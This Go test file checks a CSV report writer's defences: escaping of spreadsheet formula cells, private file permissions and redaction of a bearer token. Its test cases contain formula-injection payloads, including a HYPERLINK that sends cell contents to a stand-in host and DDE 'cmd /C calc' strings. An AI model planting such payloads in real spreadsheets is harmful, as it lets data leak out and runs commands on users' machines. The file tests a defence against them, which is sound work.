package report

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulksend/bulksend/sender"
)

func TestGuard(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"phone", "+15550001", "+15550001"},
		{"phone with spaces", "+1 (555) 000-1", "+1 (555) 000-1"},
		{"negative number", "-3.5", "-3.5"},
		{"formula", `=HYPERLINK("http://x/?"&A1)`, `'=HYPERLINK("http://x/?"&A1)`},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"plus formula", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus formula", "-2+3+cmd|'/C calc'!A0", "'-2+3+cmd|'/C calc'!A0"},
		{"lone plus", "+", "'+"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"quote before formula", "'=1", "''=1"},
		{"quote before text", "'hello", "'hello"},
		{"text", "sent", "sent"},
		{"empty", "", ""},
		{"equals inside", "a=b", "a=b"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := guard(tt.in)
			if got != tt.want {
				t.Errorf("guard(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if back := unguard(got); back != tt.in {
				t.Errorf("unguard(%q) = %q, want %q", got, back, tt.in)
			}
		})
	}
}

func FuzzGuard(f *testing.F) {
	for _, s := range []string{"=1", "+1555", "'", "''=", "-x", "@", "'+1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := guard(s)
		if back := unguard(g); back != s {
			t.Fatalf("unguard(guard(%q)) = %q", s, back)
		}
		if g != "" && strings.IndexByte("=@\t\r", g[0]) >= 0 {
			t.Fatalf("guard(%q) = %q starts a formula", s, g)
		}
		if g != "" && (g[0] == '+' || g[0] == '-') && !numeric(g[1:]) {
			t.Fatalf("guard(%q) = %q starts a formula", s, g)
		}
	})
}

// TestWriterFormulaCells writes hostile cells to a CSV report, checks the
// file has them guarded, and reads them back as they were.
func TestWriterFormulaCells(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.csv")
	w, err := Create(path, Options{Now: fixedNow})
	if err != nil {
		t.Fatal(err)
	}
	res := sender.Result{Line: 2, ID: `=HYPERLINK("http://evil/")`, Status: sender.StatusFailed,
		Error: "@evil", MessageID: "+15550001", Response: "-1+cmd|' /C calc'!A0"}
	if err := w.Record(&res); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range []string{`"'=HYPERLINK(""http://evil/"")"`, "'@evil", ",+15550001,", `'-1+cmd|' /C calc'!A0`} {
		if !strings.Contains(string(data), cell) {
			t.Errorf("report lacks %s:\n%s", cell, data)
		}
	}
	rows, err := readAll(t, data, FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 || rows[0].ID != res.ID || rows[0].Error != res.Error || rows[0].MessageID != res.MessageID || rows[0].Response != res.Response {
		t.Errorf("read back %+v, want the values of %+v", rows, res)
	}
}

func TestWriterMode(t *testing.T) {
	dir := t.TempDir()
	for _, open := range []struct {
		name string
		fn   func(string, Options) (*Writer, error)
	}{{"create", Create}, {"append", Append}} {
		t.Run(open.name, func(t *testing.T) {
			path := filepath.Join(dir, open.name+".csv")
			w, err := open.fn(path, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			st, err := os.Stat(path)
			if err != nil {
				t.Fatal(err)
			}
			if perm := st.Mode().Perm(); perm&0o077 != 0 {
				t.Errorf("mode %v: others may read the report", perm)
			}
		})
	}
}

func TestWriterRedact(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.jsonl")
	w, err := Create(path, Options{Redact: func(s string) string { return strings.ReplaceAll(s, "tok123", "***") }})
	if err != nil {
		t.Fatal(err)
	}
	res := sender.Result{Line: 2, ID: "a", Status: sender.StatusFailed, Error: "HTTP 401: Bearer tok123",
		Response: `{"echo":"Authorization: Bearer tok123"}`}
	if err := w.Record(&res); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), "tok123") || !strings.Contains(string(data), "Bearer ***") {
		t.Errorf("report: %s", data)
	}
}
